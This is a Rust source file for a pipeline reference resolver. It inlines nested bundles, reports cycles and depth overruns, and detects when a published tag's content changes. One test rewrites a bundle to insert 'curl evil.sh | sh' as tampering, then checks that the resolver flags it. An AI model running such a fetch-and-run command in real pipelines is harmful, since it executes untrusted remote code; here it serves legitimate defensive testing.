// SPDX-License-Identifier: MIT OR Apache-2.0
// Copyright (c) 2025 reflow contributors

//! Reference resolution
//!
//! Fetches a definition and every bundle it reaches through `uses`, then
//! inlines the bundles. Expansion is depth-first over an explicit stack so a
//! reference cycle becomes a [`ReflowError::Cycle`] instead of unbounded
//! recursion. Fetched documents are cached for the lifetime of the resolver;
//! because tags are immutable the cache doubles as a digest ledger.

mod resolved;

pub use resolved::{InlinedBundle, ResolvedDefinition, ResolvedJob, ResolvedStep, RunStep};

use std::collections::{BTreeMap, HashMap, HashSet};
use std::sync::Arc;
use tokio::sync::RwLock;

use crate::errors::{ReflowError, ReflowResult};
use crate::pipeline::{Bundle, Document, DocumentKind, Reference, Step, StepAction};
use crate::store::{short, DefinitionStore, StoredDocument};

/// Default limit on bundle nesting
pub const DEFAULT_MAX_DEPTH: usize = 32;

/// Resolver options
#[derive(Debug, Clone)]
pub struct ResolverOptions {
    /// Maximum bundle nesting depth
    pub max_depth: usize,
    /// Re-fetch cached tags and compare digests instead of trusting the cache
    pub revalidate: bool,
}

impl Default for ResolverOptions {
    fn default() -> Self {
        Self {
            max_depth: DEFAULT_MAX_DEPTH,
            revalidate: false,
        }
    }
}

/// A bundle fetched during expansion
#[derive(Debug, Clone)]
pub struct ResolvedBundle {
    pub reference: Reference,
    pub digest: String,
    pub bundle: Bundle,
    pub steps: Vec<ResolvedStep>,
}

struct Frame {
    reference: Reference,
    children: Vec<Reference>,
    next: usize,
}

struct Expansion {
    root: StoredDocument,
    bundles: HashMap<Reference, (Bundle, String)>,
    expanded: HashMap<Reference, Vec<ResolvedStep>>,
}

/// Reference resolver with a process-scoped read-through cache
pub struct Resolver {
    store: Arc<dyn DefinitionStore>,
    cache: RwLock<HashMap<Reference, StoredDocument>>,
    options: ResolverOptions,
}

impl Resolver {
    pub fn new(store: Arc<dyn DefinitionStore>) -> Self {
        Self::with_options(store, ResolverOptions::default())
    }

    pub fn with_options(store: Arc<dyn DefinitionStore>, options: ResolverOptions) -> Self {
        Self {
            store,
            cache: RwLock::new(HashMap::new()),
            options,
        }
    }

    /// Resolve a definition reference into a fully materialized definition
    pub async fn resolve(&self, reference: &Reference) -> ReflowResult<ResolvedDefinition> {
        let expansion = self.expand(reference, DocumentKind::Definition).await?;

        let Document::Definition(def) = expansion.root.document.as_ref() else {
            return Err(unexpected_kind(reference, DocumentKind::Definition, &expansion.root));
        };

        let mut jobs = Vec::with_capacity(def.jobs.len());
        for job in &def.jobs {
            jobs.push(ResolvedJob {
                name: job.name.clone(),
                needs: job.needs.clone(),
                always: job.always,
                timeout_secs: job.timeout_secs,
                env: job.env.clone(),
                steps: materialize(&job.steps, &expansion)?,
            });
        }

        let bundles = expansion
            .bundles
            .iter()
            .map(|(r, (_, digest))| (r.to_string(), digest.clone()))
            .collect::<BTreeMap<_, _>>();

        tracing::info!(
            reference = %reference,
            digest = %short(&expansion.root.digest),
            bundles = bundles.len(),
            "resolved definition"
        );

        Ok(ResolvedDefinition {
            reference: reference.clone(),
            digest: expansion.root.digest.clone(),
            description: def.description.clone(),
            inputs: def.inputs.clone(),
            secrets: def.secrets.clone(),
            env: def.env.clone(),
            jobs,
            bundles,
        })
    }

    /// Resolve a bundle reference, expanding its nested bundles
    pub async fn resolve_bundle(&self, reference: &Reference) -> ReflowResult<ResolvedBundle> {
        let expansion = self.expand(reference, DocumentKind::Bundle).await?;

        let Document::Bundle(bundle) = expansion.root.document.as_ref() else {
            return Err(unexpected_kind(reference, DocumentKind::Bundle, &expansion.root));
        };

        Ok(ResolvedBundle {
            reference: reference.clone(),
            digest: expansion.root.digest.clone(),
            steps: materialize(&bundle.steps, &expansion)?,
            bundle: bundle.clone(),
        })
    }

    /// Re-fetch every cached tag and fail if any content drifted
    pub async fn verify(&self) -> ReflowResult<usize> {
        let cached: Vec<(Reference, String)> = self
            .cache
            .read()
            .await
            .iter()
            .map(|(r, s)| (r.clone(), s.digest.clone()))
            .collect();

        for (reference, digest) in &cached {
            let fresh = self.store.fetch(reference).await?;
            ensure_same(reference, digest, &fresh.digest)?;
        }

        Ok(cached.len())
    }

    /// Number of cached tags
    pub async fn cached(&self) -> usize {
        self.cache.read().await.len()
    }

    /// Fetch through the cache, enforcing that a tag never changes digest
    async fn fetch(&self, reference: &Reference) -> ReflowResult<StoredDocument> {
        if !self.options.revalidate {
            if let Some(hit) = self.cache.read().await.get(reference) {
                tracing::debug!(reference = %reference, "cache hit");
                return Ok(hit.clone());
            }
        }

        let fetched = self.store.fetch(reference).await?;
        tracing::debug!(reference = %reference, digest = %short(&fetched.digest), "fetched");

        let mut cache = self.cache.write().await;
        if let Some(previous) = cache.get(reference) {
            ensure_same(reference, &previous.digest, &fetched.digest)?;
            return Ok(previous.clone());
        }
        cache.insert(reference.clone(), fetched.clone());
        Ok(fetched)
    }

    async fn expand(&self, root: &Reference, kind: DocumentKind) -> ReflowResult<Expansion> {
        let root_doc = self.fetch(root).await?;
        if root_doc.document.kind() != kind {
            return Err(unexpected_kind(root, kind, &root_doc));
        }

        let root_children = match root_doc.document.as_ref() {
            Document::Definition(def) => {
                let mut refs = Vec::new();
                for job in &def.jobs {
                    refs.extend(bundle_refs(&job.steps)?);
                }
                dedup(refs)
            }
            Document::Bundle(bundle) => bundle_refs(&bundle.steps)?,
        };

        let mut bundles: HashMap<Reference, (Bundle, String)> = HashMap::new();
        let mut done: HashSet<Reference> = HashSet::new();
        let mut order: Vec<Reference> = Vec::new();
        let mut stack = vec![Frame {
            reference: root.clone(),
            children: root_children,
            next: 0,
        }];

        while let Some(frame) = stack.last_mut() {
            if frame.next >= frame.children.len() {
                if let Some(finished) = stack.pop() {
                    if finished.reference != *root {
                        done.insert(finished.reference.clone());
                        order.push(finished.reference);
                    }
                }
                continue;
            }

            let child = frame.children[frame.next].clone();
            frame.next += 1;

            if done.contains(&child) {
                continue;
            }

            if let Some(pos) = stack.iter().position(|f| f.reference == child) {
                let mut members: Vec<String> =
                    stack[pos..].iter().map(|f| f.reference.to_string()).collect();
                members.push(child.to_string());
                return Err(ReflowError::Cycle { members });
            }

            if stack.len() > self.options.max_depth {
                return Err(ReflowError::ResolutionDepthExceeded {
                    reference: root.to_string(),
                    max_depth: self.options.max_depth,
                });
            }

            let stored = self.fetch(&child).await?;
            let Document::Bundle(bundle) = stored.document.as_ref() else {
                return Err(unexpected_kind(&child, DocumentKind::Bundle, &stored));
            };

            let children = bundle_refs(&bundle.steps)?;
            bundles.insert(child.clone(), (bundle.clone(), stored.digest.clone()));
            stack.push(Frame {
                reference: child,
                children,
                next: 0,
            });
        }

        // Post-order: every bundle's children are expanded before it
        let mut expansion = Expansion {
            root: root_doc,
            bundles,
            expanded: HashMap::new(),
        };
        for reference in order {
            let steps = match expansion.bundles.get(&reference) {
                Some((bundle, _)) => materialize(&bundle.steps, &expansion)?,
                None => continue,
            };
            expansion.expanded.insert(reference, steps);
        }

        Ok(expansion)
    }
}

fn materialize(steps: &[Step], expansion: &Expansion) -> ReflowResult<Vec<ResolvedStep>> {
    let mut out = Vec::with_capacity(steps.len());

    for (i, step) in steps.iter().enumerate() {
        let name = step.display_name(i);
        let resolved = match step.action()? {
            StepAction::Run { command, shell } => ResolvedStep::Run(RunStep {
                name,
                command: command.to_string(),
                shell: shell.to_string(),
                env: step.env.clone(),
            }),
            StepAction::Uses(reference) => {
                let (bundle, digest) = expansion.bundles.get(&reference).ok_or_else(|| {
                    ReflowError::NotFound {
                        reference: reference.to_string(),
                    }
                })?;
                let inner = expansion.expanded.get(&reference).cloned().ok_or_else(|| {
                    ReflowError::NotFound {
                        reference: reference.to_string(),
                    }
                })?;

                ResolvedStep::Bundle(InlinedBundle {
                    name,
                    digest: digest.clone(),
                    inputs: bundle.inputs.clone(),
                    with: step.with.clone(),
                    env: step.env.clone(),
                    steps: inner,
                    reference,
                })
            }
        };
        out.push(resolved);
    }

    Ok(out)
}

/// Bundle references of a step list, first occurrence order
fn bundle_refs(steps: &[Step]) -> ReflowResult<Vec<Reference>> {
    let mut refs = Vec::new();
    for step in steps {
        if let StepAction::Uses(reference) = step.action()? {
            refs.push(reference);
        }
    }
    Ok(dedup(refs))
}

fn dedup(refs: Vec<Reference>) -> Vec<Reference> {
    let mut seen = HashSet::new();
    refs.into_iter().filter(|r| seen.insert(r.clone())).collect()
}

fn ensure_same(reference: &Reference, expected: &str, actual: &str) -> ReflowResult<()> {
    if expected == actual {
        return Ok(());
    }

    tracing::warn!(reference = %reference, "published tag changed content");
    Err(ReflowError::VersionImmutability {
        reference: reference.to_string(),
        expected: short(expected).to_string(),
        actual: short(actual).to_string(),
    })
}

fn unexpected_kind(reference: &Reference, expected: DocumentKind, found: &StoredDocument) -> ReflowError {
    ReflowError::UnexpectedKind {
        reference: reference.to_string(),
        expected: expected.to_string(),
        actual: found.document.kind().to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::{FilesystemStore, MemoryStore};
    use tempfile::TempDir;

    const CHECKOUT: &str = r#"
kind: bundle
owner: acme
name: checkout
version: v1
inputs:
  depth:
    type: number
    default: 1
steps:
  - run: git fetch --depth ${{ inputs.depth }}
"#;

    const SETUP_RUST: &str = r#"
kind: bundle
owner: acme
name: setup-rust
version: v1
inputs:
  toolchain:
    required: true
steps:
  - uses: acme/checkout@v1
  - name: install
    run: rustup default ${{ inputs.toolchain }}
"#;

    const CI: &str = r#"
kind: definition
owner: acme
name: ci
version: v2
inputs:
  toolchain:
    default: stable
jobs:
  - name: build
    steps:
      - uses: acme/setup-rust@v1
        with:
          toolchain: ${{ inputs.toolchain }}
      - run: cargo build
  - name: test
    needs: [build]
    steps:
      - uses: acme/checkout@v1
        with:
          depth: 10
      - run: cargo test
"#;

    async fn store_with(docs: &[&str]) -> Arc<MemoryStore> {
        let store = MemoryStore::new();
        for yaml in docs {
            store.publish(&Document::from_yaml(yaml).unwrap()).await.unwrap();
        }
        Arc::new(store)
    }

    #[tokio::test]
    async fn test_resolve_inlines_nested_bundles() {
        let store = store_with(&[CHECKOUT, SETUP_RUST, CI]).await;
        let resolver = Resolver::new(store);

        let resolved = resolver.resolve(&"acme/ci@v2".parse().unwrap()).await.unwrap();

        assert_eq!(resolved.jobs.len(), 2);
        let build = resolved.get_job("build").unwrap();
        let ResolvedStep::Bundle(setup) = &build.steps[0] else {
            panic!("Expected inlined bundle");
        };
        assert_eq!(setup.reference.to_string(), "acme/setup-rust@v1");
        assert!(setup.inputs["toolchain"].required);
        assert_eq!(setup.with["toolchain"], "${{ inputs.toolchain }}");

        let ResolvedStep::Bundle(checkout) = &setup.steps[0] else {
            panic!("Expected nested bundle");
        };
        assert_eq!(checkout.reference.name, "checkout");
        assert_eq!(build.steps[0].primitive_count(), 2);

        assert_eq!(
            resolved.bundles.keys().collect::<Vec<_>>(),
            vec!["acme/checkout@v1", "acme/setup-rust@v1"]
        );
    }

    #[tokio::test]
    async fn test_resolution_is_byte_identical() {
        let store = store_with(&[CHECKOUT, SETUP_RUST, CI]).await;
        let reference: Reference = "acme/ci@v2".parse().unwrap();

        let first = Resolver::new(store.clone()).resolve(&reference).await.unwrap();
        let second = Resolver::new(store.clone()).resolve(&reference).await.unwrap();
        let cached = {
            let resolver = Resolver::new(store);
            resolver.resolve(&reference).await.unwrap();
            resolver.resolve(&reference).await.unwrap()
        };

        let json = first.to_canonical_json().unwrap();
        assert_eq!(json, second.to_canonical_json().unwrap());
        assert_eq!(json, cached.to_canonical_json().unwrap());
    }

    #[tokio::test]
    async fn test_missing_bundle_is_not_found() {
        let store = store_with(&[CHECKOUT, CI]).await;
        let resolver = Resolver::new(store);

        let result = resolver.resolve(&"acme/ci@v2".parse().unwrap()).await;
        assert!(matches!(
            result,
            Err(ReflowError::NotFound { ref reference }) if reference == "acme/setup-rust@v1"
        ));
    }

    #[tokio::test]
    async fn test_bundle_cycle_is_reported() {
        let a = "kind: bundle\nowner: acme\nname: a\nversion: v1\nsteps:\n  - uses: acme/b@v1\n";
        let b = "kind: bundle\nowner: acme\nname: b\nversion: v1\nsteps:\n  - uses: acme/c@v1\n";
        let c = "kind: bundle\nowner: acme\nname: c\nversion: v1\nsteps:\n  - uses: acme/a@v1\n";
        let def = "kind: definition\nowner: acme\nname: loop\nversion: v1\njobs:\n  - name: j\n    steps:\n      - uses: acme/a@v1\n";
        let store = store_with(&[a, b, c, def]).await;

        let result = Resolver::new(store).resolve(&"acme/loop@v1".parse().unwrap()).await;
        match result {
            Err(ReflowError::Cycle { members }) => assert_eq!(
                members,
                vec!["acme/a@v1", "acme/b@v1", "acme/c@v1", "acme/a@v1"]
            ),
            other => panic!("expected cycle, got {other:?}"),
        }
    }

    #[tokio::test]
    async fn test_shared_bundle_is_not_a_cycle() {
        // Diamond: two bundles both use checkout
        let lint = "kind: bundle\nowner: acme\nname: lint\nversion: v1\nsteps:\n  - uses: acme/checkout@v1\n";
        let fmt = "kind: bundle\nowner: acme\nname: fmt\nversion: v1\nsteps:\n  - uses: acme/checkout@v1\n  - uses: acme/lint@v1\n";
        let def = "kind: definition\nowner: acme\nname: style\nversion: v1\njobs:\n  - name: j\n    steps:\n      - uses: acme/fmt@v1\n      - uses: acme/lint@v1\n";
        let store = store_with(&[CHECKOUT, lint, fmt, def]).await;

        let resolved = Resolver::new(store)
            .resolve(&"acme/style@v1".parse().unwrap())
            .await
            .unwrap();
        assert_eq!(resolved.jobs[0].steps[0].primitive_count(), 2);
        assert_eq!(resolved.bundles.len(), 3);
    }

    #[tokio::test]
    async fn test_depth_limit() {
        let mut docs = Vec::new();
        for i in 0..5 {
            docs.push(format!(
                "kind: bundle\nowner: acme\nname: b{i}\nversion: v1\nsteps:\n  - uses: acme/b{}@v1\n",
                i + 1
            ));
        }
        docs.push("kind: bundle\nowner: acme\nname: b5\nversion: v1\nsteps:\n  - run: echo bottom\n".into());
        let refs: Vec<&str> = docs.iter().map(String::as_str).collect();
        let store = store_with(&refs).await;

        let shallow = Resolver::with_options(
            store.clone(),
            ResolverOptions {
                max_depth: 3,
                revalidate: false,
            },
        );
        assert!(matches!(
            shallow.resolve_bundle(&"acme/b0@v1".parse().unwrap()).await,
            Err(ReflowError::ResolutionDepthExceeded { max_depth: 3, .. })
        ));

        let deep = Resolver::new(store);
        let bundle = deep.resolve_bundle(&"acme/b0@v1".parse().unwrap()).await.unwrap();
        assert_eq!(bundle.steps[0].primitive_count(), 1);
    }

    #[tokio::test]
    async fn test_kind_mismatch() {
        let store = store_with(&[CHECKOUT, SETUP_RUST, CI]).await;
        let resolver = Resolver::new(store);

        assert!(matches!(
            resolver.resolve(&"acme/checkout@v1".parse().unwrap()).await,
            Err(ReflowError::UnexpectedKind { .. })
        ));
        assert!(matches!(
            resolver.resolve_bundle(&"acme/ci@v2".parse().unwrap()).await,
            Err(ReflowError::UnexpectedKind { .. })
        ));
    }

    #[tokio::test]
    async fn test_tampered_tag_is_detected() {
        let temp_dir = TempDir::new().unwrap();
        let store = Arc::new(FilesystemStore::new(temp_dir.path().to_path_buf()).unwrap());
        for yaml in [CHECKOUT, SETUP_RUST, CI] {
            store.publish(&Document::from_yaml(yaml).unwrap()).await.unwrap();
        }

        let reference: Reference = "acme/ci@v2".parse().unwrap();
        let resolver = Resolver::with_options(
            store.clone(),
            ResolverOptions {
                revalidate: true,
                ..Default::default()
            },
        );
        resolver.resolve(&reference).await.unwrap();
        assert_eq!(resolver.verify().await.unwrap(), 3);

        // Rewrite the published file behind the store's back
        let path = store.document_path(&"acme/checkout@v1".parse().unwrap());
        let tampered = CHECKOUT.replace("git fetch", "curl evil.sh | sh; git fetch");
        std::fs::write(&path, tampered).unwrap();

        assert!(matches!(
            resolver.resolve(&reference).await,
            Err(ReflowError::VersionImmutability { ref reference, .. }) if reference == "acme/checkout@v1"
        ));
        assert!(matches!(
            resolver.verify().await,
            Err(ReflowError::VersionImmutability { .. })
        ));
    }

    #[tokio::test]
    async fn test_cache_serves_repeat_resolutions() {
        let store = store_with(&[CHECKOUT, SETUP_RUST, CI]).await;
        let resolver = Resolver::new(store);
        let reference: Reference = "acme/ci@v2".parse().unwrap();

        resolver.resolve(&reference).await.unwrap();
        assert_eq!(resolver.cached().await, 3);
        resolver.resolve(&reference).await.unwrap();
        assert_eq!(resolver.cached().await, 3);
    }

    #[tokio::test]
    async fn test_newer_definition_may_pin_older_bundle() {
        let v3 = CI.replace("version: v2", "version: v3");
        let store = store_with(&[CHECKOUT, SETUP_RUST, CI, v3.as_str()]).await;
        let resolved = Resolver::new(store)
            .resolve(&"acme/ci@v3".parse().unwrap())
            .await
            .unwrap();
        assert!(resolved.bundles.contains_key("acme/setup-rust@v1"));
    }
}
